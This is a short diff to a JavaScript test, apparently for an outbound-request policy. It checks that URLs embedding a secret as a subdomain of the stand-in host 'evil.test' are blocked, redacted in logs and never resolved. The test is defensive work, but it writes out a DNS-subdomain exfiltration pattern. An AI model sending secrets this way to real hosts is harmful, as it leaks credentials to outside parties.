@@ -68,6 +68,8 @@ describe('the way out', () => {
     const client = testClient({ resolve, secrets: [secret], policy: open(['*.evil.test'], ['*.evil.test']) });
     const reply = await client.send({ url: `http://${secret}.evil.test/` });
     expect(reply).toMatchObject({ kind: 'failure', name: 'PolicyError' });
+    await client.send({ url: `http://${secret.toLowerCase()}.evil.test/x?y` });
+    expect(client.exchanges().map((one) => one.url)).toEqual(['http://***/', 'http://***/x?y']);
     expect(resolve.asked).toEqual([]);
     expect(JSON.stringify([reply, client.puts]).toLowerCase()).not.toContain(secret.toLowerCase());
   });
